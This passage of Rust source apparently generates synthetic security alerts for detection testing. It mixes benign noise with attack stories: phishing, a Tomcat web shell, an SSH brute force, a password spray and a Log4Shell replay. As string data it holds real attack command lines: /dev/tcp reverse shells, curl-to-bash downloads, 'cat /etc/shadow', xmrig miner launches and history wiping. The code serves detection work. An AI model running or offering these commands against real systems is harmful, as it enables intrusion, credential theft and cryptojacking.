                &episode,
                dev,
                "ssh_auth_failure",
                t,
                user,
                &ip,
                count,
                40 * SEC,
                &line,
            );
            t += g.between(20, 90) * SEC;
        }
        if g.rand(6) == 0 {
            g.auth_alert(
                NOISE,
                &episode,
                dev,
                "ssh_bruteforce_limit",
                t,
                "root",
                &ip,
                1,
                0,
                &format!(
                    "error: maximum authentication attempts exceeded for root from {ip} port 40200 ssh2 [preauth]"
                ),
            );
        }
        t += g.between(15, 75) * MIN;
    }
}

/// The kiosk: a nightly updater unpacked into /tmp and the discovery its watchdog runs.
fn kiosk(g: &mut Gen, day: u64) {
    let dev = g.dev("kiosk-03");
    let cron = cron(g, dev);
    let at = D0 + day * DAY + 3 * H + g.rand(30) * MIN;
    let episode = format!("noise/kiosk/day{day}-update");
    let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f -P");
    let sh = g.child(
        dev,
        &fork,
        20,
        "/usr/bin/dash",
        "/bin/sh -c /usr/local/sbin/kiosk-update",
    );
    let dir = format!("/tmp/kiosk-update.{}", g.hexid(6));
    let up = g.child(
        dev,
        &sh,
        9 * SEC,
        &format!("{dir}/kiosk-updater"),
        &format!("{dir}/kiosk-updater --channel stable"),
    );
    g.proc_alert(NOISE, &episode, dev, "exec_from_tmp", &up);
    for slot in [9, 13, 17] {
        let at = D0 + day * DAY + slot * H + 2 * MIN;
        let episode = format!("noise/kiosk/day{day}-watchdog-{slot}");
        let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f -P");
        let sh = g.child(
            dev,
            &fork,
            20,
            "/usr/bin/dash",
            "/bin/sh -c /usr/local/sbin/kiosk-watchdog",
        );
        let p = g.child(dev, &sh, 300, "/usr/bin/hostname", "hostname -I");
        g.proc_alert(NOISE, &episode, dev, "discovery_commands", &p);
    }
}

/// Wednesday's unattended upgrade writes the same cron file on every Debian 12 host.
fn upgrades(g: &mut Gen) {
    let h = sha(&["sysstat 12.6.1-1+deb12u1", "/etc/cron.d/sysstat"]);
    for host in ["web-01", "db-01", "bastion-01", "kiosk-03"] {
        let dev = g.dev(host);
        let at = D0 + 2 * DAY + 6 * H + 25 * MIN + g.rand(40) * MIN;
        g.file_alert(
            NOISE,
            &format!("noise/upgrade/{host}"),
            dev,
            "cron_persistence",
            at,
            "/etc/cron.d/sysstat",
            h,
        );
    }
}

/// Risky-looking but benign identity and mail alerts.
fn identity_noise(g: &mut Gen) {
    // bob signs in from a hotel in Lisbon: medium risk.
    let mut r = feed::Raise::new(
        feed::RISKY_SIGN_IN,
        AlertSource::Identity,
        Severity::Medium,
        D0 + DAY + 19 * H + 20 * MIN,
    );
    r.entity(user_upn("bob@contoso.com")).entity(ip("95.94.17.201"));
    r.field("risk_level", Some("medium"))
        .field("location", Some("Lisbon, PT"));
    let a = r.build(D0 + DAY + 19 * H + 20 * MIN, &["bob-lisbon"]);
    g.feed_alert(NOISE, "noise/identity/bob-hotel", a);
    // carol's VPN egress moves between Dublin and Frankfurt: impossible travel, twice.
    for (n, day) in [(0, 2), (1, 3)] {
        let first = D0 + day * DAY + 8 * H + 2 * MIN;
        let mut r = feed::Raise::new(feed::IMPOSSIBLE_TRAVEL, AlertSource::Identity, Severity::Medium, first);
        r.last_ms = first + 11 * MIN;
        r.count = 2;
        r.entity(user_upn("carol@contoso.com"))
            .entity(ip("185.67.177.40"))
            .entity(ip("89.101.12.7"));
        r.field("location", Some("Frankfurt am Main, DE"))
            .field("other_location", Some("Dublin, IE"));
        let a = r.build(first + 11 * MIN, &["carol-vpn", &n.to_string()]);
        g.feed_alert(NOISE, &format!("noise/identity/carol-vpn-{n}"), a);
    }
    // erin reports two newsletters as phishing.
    for (n, (day, sender)) in [
        (0, "news@mail.vendor-weekly.example"),
        (3, "events@conference-hub.example"),
    ]
    .iter()
    .enumerate()
    {
        let at = D0 + day * DAY + 10 * H + 15 * MIN;
        let mut r = feed::Raise::new(feed::USER_REPORTED_PHISH, AlertSource::Mailbox, Severity::Medium, at);
        r.entity(user_upn("erin@contoso.com"))
            .entity(Entity::Mailbox {
                address: "erin@contoso.com".into(),
            })
            .entity(Entity::Mailbox {
                address: (*sender).into(),
            });
        if let Some(d) = feed::domain_of_address(sender) {
            r.entity(d);
        }
        let a = r.build(at, &["erin-report", &n.to_string()]);
        g.feed_alert(NOISE, &format!("noise/mail/erin-report-{n}"), a);
    }
}

/// demo/story at scale: a phishing mail with invoice.com (a stage-one loader) to alice,
/// run from her file manager; it opens a /dev/tcp shell, fetches a stage two and
/// installs a crontab; her account then signs in from Singapore.
fn phish_alice(g: &mut Gen) {
    const L: &str = "phish-alice";
    let dev = g.dev("laptop-alice");
    let mail_at = D0 + DAY + 9 * H + 12 * MIN + 40 * SEC;
    let mut r = feed::Raise::new(feed::MALICIOUS_DELIVERED, AlertSource::Mailbox, Severity::High, mail_at);
    r.technique = Some("T1566.001");
    r.entity(user_upn("alice@contoso.com"))
        .entity(Entity::Mailbox {
            address: "alice@contoso.com".into(),
        })
        .entity(Entity::Mailbox {
            address: "billing@billing-contoso.example".into(),
        })
        .entity(Entity::Domain {
            name: "billing-contoso.example".into(),
        })
        .entity(ip("91.215.85.40"))
        .entity(Entity::File {
            path: "invoice.com".into(),
            sha256: Some(hex32(PAYLOAD)),
        });
    r.field("subject", Some("Invoice 88231 overdue"))
        .field("threat_types", Some("Malware"))
        .field("delivery_action", Some("Delivered"));
    let a = r.build(mail_at, &["4f1c2d3e-88231-story", "alice@contoso.com"]);
    g.feed_alert(L, "mail delivered", a);

    let saved = D0 + DAY + 9 * H + 31 * MIN + 5 * SEC;
    g.file_alert(
        L,
        "invoice.com saved",
        dev,
        "known_bad_file_hash",
        saved,
        "/home/alice/Downloads/invoice.com",
        hex32(PAYLOAD),
    );
    let sess = session(g, dev, "alice", 1000, D0 + DAY + 7 * H + 52 * MIN);
    let files = g.child(
        dev,
        &sess,
        40 * MIN,
        "/usr/bin/nautilus",
        "/usr/bin/nautilus --gapplication-service",
    );
    let mut inv = g.child_at(
        dev,
        &files,
        saved + 65 * SEC,
        "/home/alice/Downloads/invoice.com",
        "/home/alice/Downloads/invoice.com",
    );
    if let Some(p) = inv.last_mut() {
        p.sha256 = hex32(PAYLOAD);
    }
    let start = inv[inv.len() - 1].start;
    let bash_c = g.child_at(
        dev,
        &inv,
        start + 900,
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/91.215.85.17/443 0>&1",
    );
    g.proc_alert(L, "reverse shell", dev, "revshell_dev_tcp", &bash_c);
    let bash_i = g.child(dev, &bash_c, 3, "/usr/bin/bash", "bash -i");
    let mut t = start + 40 * SEC;
    for cmd in ["whoami", "id", "uname -a"] {
        t += g.between(4, 30) * SEC;
        let exe = format!("/usr/bin/{}", cmd.split(' ').next().unwrap_or(cmd));
        let p = g.child_at(dev, &bash_i, t, &exe, cmd);
        g.proc_alert(L, "discovery in the shell", dev, "discovery_commands", &p);
    }
    let stage2 = g.child_at(
        dev,
        &inv,
        t + 2 * MIN,
        "/usr/bin/dash",
        "sh -c curl -fsSL http://91.215.85.17/s | bash",
    );
    g.proc_alert(L, "stage two", dev, "download_pipe_shell", &stage2);
    let script = g.child(dev, &stage2, 400, "/usr/bin/bash", "bash");
    let cron = g.child(dev, &script, 2 * SEC, "/usr/bin/crontab", "crontab -");
    g.proc_alert(L, "crontab", dev, "crontab_from_stdin", &cron);
    let mut implant = g.child(dev, &script, 5 * SEC, "/dev/shm/.x/kworkerd", "/dev/shm/.x/kworkerd");
    if let Some(p) = implant.last_mut() {
        p.sha256 = sha(&["implant kworkerd"]);
    }
    g.proc_alert(L, "implant", dev, "exec_from_tmp", &implant);

    // Her stolen password is used from Singapore (she signed in from Berlin at 10:05).
    let away = D0 + DAY + 10 * H + 41 * MIN;
    let mut r = feed::Raise::new(feed::RISKY_SIGN_IN, AlertSource::Identity, Severity::High, away);
    r.entity(user_upn("alice@contoso.com")).entity(ip("159.89.205.17"));
    r.field("risk_level", Some("high"))
        .field("location", Some("Singapore, SG"));
    g.feed_alert(L, "risky sign-in", r.build(away, &["story-away"]));
    let home = D0 + DAY + 10 * H + 5 * MIN;
    let mut r = feed::Raise::new(feed::IMPOSSIBLE_TRAVEL, AlertSource::Identity, Severity::Medium, home);
    r.last_ms = away;
    r.count = 2;
    r.entity(user_upn("alice@contoso.com"))
        .entity(ip("159.89.205.17"))
        .entity(ip("198.51.100.7"));
    r.field("location", Some("Singapore, SG"))
        .field("other_location", Some("Berlin, DE"));
    g.feed_alert(L, "impossible travel", r.build(away, &["story-home", "story-away"]));
}

/// A web shell through Tomcat: java spawns `bash -c` with a /dev/tcp shell, the
/// attacker looks around, drops a binary in /tmp and installs a crontab that calls
/// back every 15 minutes until an admin removes it.
fn webshell_tomcat(g: &mut Gen) {
    const L: &str = "webshell-tomcat";
    const C2: &str = "5.188.86.172";
    let dev = g.dev("web-01");
    let java = g.service(
        dev,
        "tomcat",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Djava.util.logging.config.file=/var/lib/tomcat10/conf/logging.properties -Djava.util.logging.manager=org.apache.juli.ClassLoaderLogManager -classpath /usr/share/tomcat10/bin/bootstrap.jar:/usr/share/tomcat10/bin/tomcat-juli.jar -Dcatalina.base=/var/lib/tomcat10 -Dcatalina.home=/usr/share/tomcat10 org.apache.catalina.startup.Bootstrap start",
        "tomcat",
        997,
    );
    let t0 = D0 + 2 * DAY + 14 * H + 20 * MIN + 11 * SEC;
    let bash_c = g.child_at(
        dev,
        &java,
        t0,
        "/usr/bin/bash",
        &format!("bash -c bash -i >& /dev/tcp/{C2}/4444 0>&1"),
    );
    g.proc_alert(L, "reverse shell from java", dev, "revshell_dev_tcp", &bash_c);
    let bash_i = g.child(dev, &bash_c, 2, "/usr/bin/bash", "bash -i");
    let mut t = t0 + 29 * SEC;
    for cmd in ["whoami", "id", "uname -a", "hostname", "netstat -antp"] {
        t += g.between(6, 40) * SEC;
        let exe = format!("/usr/bin/{}", cmd.split(' ').next().unwrap_or(cmd));
        let p = g.child_at(dev, &bash_i, t, &exe, cmd);
        g.proc_alert(L, "discovery in the shell", dev, "discovery_commands", &p);
    }
    t += 70 * SEC;
    let shadow = g.child_at(dev, &bash_i, t, "/usr/bin/cat", "cat /etc/shadow");
    g.proc_alert(L, "reads /etc/shadow", dev, "shadow_read_cmdline", &shadow);
    t += 90 * SEC;
    let mut x = g.child_at(dev, &bash_i, t, "/tmp/.x", "/tmp/.x -d");
    if let Some(p) = x.last_mut() {
        p.sha256 = sha(&["webshell stage /tmp/.x"]);
    }
    g.proc_alert(L, "runs /tmp/.x", dev, "exec_from_tmp", &x);
    t += 110 * SEC;
    let tab = g.child_at(dev, &bash_i, t, "/usr/bin/crontab", "crontab -");
    g.proc_alert(L, "installs a crontab", dev, "crontab_from_stdin", &tab);
    // */15 as tomcat: cron -> CRON -> sh -c '...' -> bash -c '...'
    let cron = cron(g, dev);
    let mut at = D0 + 2 * DAY + 14 * H + 30 * MIN;
    while at <= D0 + 2 * DAY + 18 * H {
        let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f -P");
        let sh = g.child_as(
            dev,
            &fork,
            at + 15,
            "/usr/bin/dash",
            &format!("/bin/sh -c bash -c \"bash -i >& /dev/tcp/{C2}/4444 0>&1\""),
            "tomcat",
            997,
        );
        g.proc_alert(L, "crontab calls back", dev, "revshell_dev_tcp", &sh);
        let b = g.child(
            dev,
            &sh,
            3,
            "/usr/bin/bash",
            &format!("bash -c bash -i >& /dev/tcp/{C2}/4444 0>&1"),
        );
        g.proc_alert(L, "crontab calls back", dev, "revshell_dev_tcp", &b);
        at += 15 * MIN;
    }
}

/// SSH brute force on the bastion from one address, a root login from it, and
/// what the bot then runs over exec channels.
fn ssh_bruteforce(g: &mut Gen) {
    const L: &str = "ssh-bruteforce";
    const SRC: &str = "45.155.205.233";
    let dev = g.dev("bastion-01");
    let mut t = D0 + 3 * DAY + 2 * H + 10 * MIN;
    let users = [
        "root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "deploy", "git", "ftpuser", "root", "admin",
    ];
    let end = D0 + 3 * DAY + 2 * H + 56 * MIN;
    let mut i = 0;
    while t < end {
        let user = users[i % users.len()];
        let count = g.between(3, 12) as u32;
        let line = if user == "root" {
            format!("Failed password for root from {SRC} port 51772 ssh2")
        } else {
            format!("Invalid user {user} from {SRC} port 51772")
        };
        g.auth_alert(
            L,
            "failures",
            dev,
            "ssh_auth_failure",
            t,
            user,
            SRC,
            count,
            55 * SEC,
            &line,
        );
        if i % 10 == 3 {
            g.auth_alert(
                L,
                "too many failures",
                dev,
                "ssh_bruteforce_limit",
                t + 20 * SEC,
                "root",
                SRC,
                1,
                0,
                &format!(
                    "error: maximum authentication attempts exceeded for root from {SRC} port 51790 ssh2 [preauth]"
                ),
            );
        }
        if i == 2 {
            g.auth_alert(
                L,
                "many failures from one source",
                dev,
                "ssh_bruteforce_correlation",
                t + 30 * SEC,
                user,
                SRC,
                1,
                0,
                &line,
            );
        }
        t += g.between(70, 110) * SEC;
        i += 1;
    }
    let login = D0 + 3 * DAY + 2 * H + 58 * MIN + 31 * SEC;
    g.auth_alert(
        L,
        "root login",
        dev,
        "ssh_root_login",
        login,
        "root",
        SRC,
        1,
        0,
        &format!("Accepted password for root from {SRC} port 52011 ssh2"),
    );
    let sshd = sshd(g, dev);
    let conn = g.child_as(dev, &sshd, login + 200, "/usr/sbin/sshd", "sshd: root@notty", "root", 0);
    let mut t = login + 9 * SEC;
    let recon = g.child_at(dev, &conn, t, "/usr/bin/bash", "bash -c uname -a; id; nproc");
    for cmd in ["uname -a", "id"] {
        let exe = format!("/usr/bin/{}", cmd.split(' ').next().unwrap_or(cmd));
        let p = g.child(dev, &recon, 30, &exe, cmd);
        g.proc_alert(L, "bot recon", dev, "discovery_commands", &p);
    }
    t += 20 * SEC;
    let sh = g.child_at(dev, &conn, t, "/usr/bin/bash", "bash -c cat /etc/shadow | head -n 5");
    let cat = g.child(dev, &sh, 10, "/usr/bin/cat", "cat /etc/shadow");
    g.proc_alert(L, "reads /etc/shadow", dev, "shadow_read_cmdline", &cat);
    t += 25 * SEC;
    g.file_alert(
        L,
        "authorized key added",
        dev,
        "ssh_authorized_keys",
        t,
        "/root/.ssh/authorized_keys",
        sha(&["bastion authorized_keys with the bot's key"]),
    );
    t += 35 * SEC;
    let dl = g.child_at(
        dev,
        &conn,
        t,
        "/usr/bin/bash",
        &format!("bash -c curl -s http://{SRC}:8080/x.sh | sh"),
    );
    g.proc_alert(L, "downloads x.sh", dev, "download_pipe_shell", &dl);
    let script = g.child(dev, &dl, 300, "/usr/bin/dash", "sh");
    let mut miner = g.child(
        dev,
        &script,
        6 * SEC,
        "/tmp/.ICE-unix/xmrig",
        &format!("/tmp/.ICE-unix/xmrig -o stratum+tcp://{SRC}:3333 --donate-level 1 -B"),
    );
    if let Some(p) = miner.last_mut() {
        p.sha256 = sha(&["xmrig 6.21.0 static"]);
    }
    g.proc_alert(L, "miner from /tmp", dev, "exec_from_tmp", &miner);
    g.proc_alert(L, "miner", dev, "cryptominer", &miner);
    t += 40 * SEC;
    let wipe = g.child_at(
        dev,
        &conn,
        t,
        "/usr/bin/bash",
        "bash -c history -c; rm -f /root/.bash_history",
    );
    g.proc_alert(L, "wipes history", dev, "history_clearing", &wipe);
}

/// A cloud identity compromise (names and the inbox rule after the Azure Sentinel
/// training lab's Adele Vance records): a spray from 175.45.176.99, a brute force
/// on adelev, a risky sign-in and impossible travel, then inbox rules that hide
/// mail and forward it outside.
fn cloud_identity(g: &mut Gen) {
    const L: &str = "cloud-identity-adele";
    const SRC: &str = "175.45.176.99";
    let spray_first = D0 + 3 * DAY + 11 * H + 2 * MIN;
    let spray_last = spray_first + 8 * MIN;
    let mut r = feed::Raise::new(
        feed::PASSWORD_SPRAY,
        AlertSource::Identity,
        Severity::Medium,
        spray_first,
    );
    r.last_ms = spray_last;
    let users = [
        "adelev",
        "alexw",
        "diegos",
        "gradya",
        "isaiahl",
        "johannal",
        "jonis",
        "leeg",
        "lidiah",
        "lynner",
        "meganb",
        "miriamg",
        "nestorw",
        "pattif",
        "alice",
        "mkowalski",
    ];
    r.count = users.len() as u32;
    r.entity(ip(SRC));
    for u in users {
        r.entity(user_upn(&format!("{u}@contoso.com")));
    }
    r.field("ip", Some(SRC)).field("app", Some("Azure Portal"));
    let bucket = spray_last / (30 * MIN);
    g.feed_alert(
        L,
        "password spray",
        r.build(bucket * 30 * MIN, &[SRC, &bucket.to_string()]),
    );
    let bf = D0 + 3 * DAY + 11 * H + 11 * MIN;
    let mut r = feed::Raise::new(feed::BRUTE_FORCE, AlertSource::Identity, Severity::Medium, bf - 6 * MIN);
    r.last_ms = bf;
    r.count = 10;
    r.entity(user_upn("adelev@contoso.com")).entity(ip(SRC));
    g.feed_alert(L, "brute force", r.build(bf, &["adelev@contoso.com", "bf"]));
    let ok = D0 + 3 * DAY + 11 * H + 32 * MIN;
    let mut r = feed::Raise::new(feed::RISKY_SIGN_IN, AlertSource::Identity, Severity::High, ok);
    r.entity(user_upn("adelev@contoso.com")).entity(ip(SRC));
    r.field("risk_level", Some("high"))
        .field("app", Some("Office 365 Exchange Online"));
    g.feed_alert(L, "risky sign-in", r.build(ok, &["adelev-risky"]));
    let home = D0 + 3 * DAY + 9 * H + 50 * MIN;
    let mut r = feed::Raise::new(feed::IMPOSSIBLE_TRAVEL, AlertSource::Identity, Severity::Medium, home);
    r.last_ms = ok;
    r.count = 2;
    r.entity(user_upn("adelev@contoso.com"))
        .entity(ip(SRC))
        .entity(ip("131.107.8.20"));
    g.feed_alert(L, "impossible travel", r.build(ok, &["adelev-home", "adelev-risky"]));
    let rule_at = D0 + 3 * DAY + 11 * H + 47 * MIN;
    for (rule, sev, name) in [
        (feed::HIDING_INBOX_RULE, Severity::Medium, "rule2"),
        (feed::EXTERNAL_FORWARDING, Severity::High, "rule3"),
    ] {
        let at = if name == "rule2" { rule_at } else { rule_at + 2 * MIN };
        let mut r = feed::Raise::new(rule, AlertSource::Mailbox, sev, at);
        r.entity(user_upn("adelev@contoso.com"))
            .entity(Entity::Mailbox {
                address: "adelev@contoso.com".into(),
            })
            .entity(ip(SRC));
        if name == "rule3" {
            r.entity(Entity::Mailbox {
                address: "a.vance.archive@protonmail.com".into(),
            })
            .entity(Entity::Domain {
                name: "protonmail.com".into(),
            });
            r.field("forwards_outside", Some("a.vance.archive@protonmail.com"));
        } else {
            r.field("what_it_does", Some("MoveToFolder: Junk Email"))
                .field("conditions", Some("SubjectContainsWords: do not open"));
        }
        r.field("operation", Some("New-InboxRule"))
            .field("rule_name", Some(name));
        g.feed_alert(L, &format!("inbox rule {name}"), r.build(at, &["adelev-inbox", name]));
    }
}

/// A Log4Shell intrusion recorded on 2022-01-11 (Kinsing's playbook: a JNDI lookup
/// makes java run a download into bash, which installs a crontab and a miner),
/// replayed on Thursday through replay-lab.
fn log4shell_2022(g: &mut Gen) {
    const L: &str = "log4shell-2022";
    const C2: &str = "45.137.155.55";
    let dev = g.dev("replay-lab");
    let java = g.service(
        dev,
        "app",
        "/usr/lib/jvm/java-11-openjdk-amd64/bin/java",
        "/usr/lib/jvm/java-11-openjdk-amd64/bin/java -jar /opt/app/log4shell-vulnerable-app-0.0.1-SNAPSHOT.jar",
        "app",
        1001,
    );
    let t0 = D2022 + 15 * H + 2 * MIN + 14 * SEC;
    let get = format!("(curl -s http://{C2}/lh.sh||wget -q -O- http://{C2}/lh.sh)|bash");
    let sh = g.child_at(dev, &java, t0, "/usr/bin/dash", &format!("sh -c {get}"));
    g.proc_alert(L, "java runs a download into bash", dev, "download_pipe_shell", &sh);
    let lh = g.child(dev, &sh, 900, "/usr/bin/bash", "bash");
    for cmd in ["id", "uname -m"] {
        let exe = format!("/usr/bin/{}", cmd.split(' ').next().unwrap_or(cmd));
        let p = g.child(dev, &lh, 2 * SEC, &exe, cmd);
        g.proc_alert(L, "lh.sh looks around", dev, "discovery_commands", &p);
    }
    let tab = g.child(dev, &lh, 9 * SEC, "/usr/bin/crontab", "crontab -");
    g.proc_alert(L, "crontab", dev, "crontab_from_stdin", &tab);
    for (n, bin) in ["/tmp/kdevtmpfsi", "/tmp/kinsing"].iter().enumerate() {
        let mut p = g.child(dev, &lh, (20 + 15 * n as u64) * SEC, bin, bin);
        if let Some(x) = p.last_mut() {
            x.sha256 = sha(&["kinsing 2022", bin]);
        }
        g.proc_alert(L, "runs from /tmp", dev, "exec_from_tmp", &p);
    }
    let cron = cron(g, dev);
    for m in [5, 6, 7] {
        let at = D2022 + 15 * H + m * MIN;
        let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f");
        let sh = g.child_as(
            dev,
            &fork,
            at + 20,
            "/usr/bin/dash",
            &format!("/bin/sh -c {get}"),
            "app",
            1001,
        );
        g.proc_alert(L, "the crontab fetches again", dev, "download_pipe_shell", &sh);
    }
}

/// A malicious npm postinstall on dave's laptop while it is offline: a miner in
/// /tmp kept alive by a crontab; everything arrives two days later.
fn npm_miner(g: &mut Gen) {
    const L: &str = "npm-miner-backlog";
    const C2: &str = "194.38.20.199";
    let dev = g.dev("laptop-dave");
    let t0 = D0 + 2 * DAY + 15 * H + 40 * MIN;
    let sess = session(g, dev, "dave", 1000, D0 + 2 * DAY + 13 * H);
    let term = g.child(
        dev,
        &sess,
        MIN,
        "/usr/libexec/gnome-terminal-server",
        "/usr/libexec/gnome-terminal-server",
    );
    let bash = g.child(dev, &term, SEC, "/usr/bin/bash", "bash");
    let npm = g.child_at(dev, &bash, t0, "/usr/bin/node", "npm install");
    let post = g.child(
        dev,
        &npm,
        40 * SEC,
        "/usr/bin/dash",
        &format!("sh -c curl -fsSL http://{C2}/p.sh | sh"),
    );
    g.proc_alert(L, "postinstall downloads p.sh", dev, "download_pipe_shell", &post);
    let script = g.child(dev, &post, 500, "/usr/bin/dash", "sh");
    let cmd = format!("/tmp/.npm-x/xmrig --url stratum+tcp://{C2}:3333 --donate-level 1 -B");
    let mut miner = g.child(dev, &script, 4 * SEC, "/tmp/.npm-x/xmrig", &cmd);
    if let Some(p) = miner.last_mut() {
        p.sha256 = sha(&["xmrig 6.21.0 static"]);
    }
    g.proc_alert(L, "miner", dev, "exec_from_tmp", &miner);
    g.proc_alert(L, "miner", dev, "cryptominer", &miner);
    let tab = g.child(dev, &script, 6 * SEC, "/usr/bin/crontab", "crontab -");
    g.proc_alert(L, "crontab", dev, "crontab_from_stdin", &tab);
    // 0 */4 as dave: the miner restarted whenever the laptop is awake.
    let cron = cron(g, dev);
    for at in [
        D0 + 2 * DAY + 16 * H,
        D0 + 2 * DAY + 20 * H,
        D0 + 3 * DAY + 8 * H,
        D0 + 3 * DAY + 12 * H,
        D0 + 3 * DAY + 16 * H,
    ] {
        let fork = g.child_at(dev, &cron, at, "/usr/sbin/cron", "/usr/sbin/CRON -f -P");
        let sh = g.child_as(
            dev,
            &fork,
            at + 20,
            "/usr/bin/dash",
            &format!("/bin/sh -c {cmd}"),
            "dave",
            1000,
        );
        let mut m = g.child(dev, &sh, 30, "/tmp/.npm-x/xmrig", &cmd);
        if let Some(p) = m.last_mut() {
            p.sha256 = sha(&["xmrig 6.21.0 static"]);
        }
        g.proc_alert(L, "crontab restarts the miner", dev, "exec_from_tmp", &m);
        g.proc_alert(L, "crontab restarts the miner", dev, "cryptominer", &m);
    }
}
